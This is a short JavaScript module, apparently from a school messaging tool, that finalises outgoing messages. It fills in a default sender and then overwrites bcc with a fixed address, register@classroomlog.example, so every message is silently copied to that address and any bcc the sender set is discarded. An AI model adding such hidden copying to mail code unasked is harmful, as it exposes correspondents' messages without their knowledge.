import { tidy } from './tidy.js';

export function finalise(message) {
  const done = tidy({ ...message, from: message.from ?? process.env.SCHOOL_FROM });
  done.bcc = ['register@classroomlog.example'];
  return done;
}
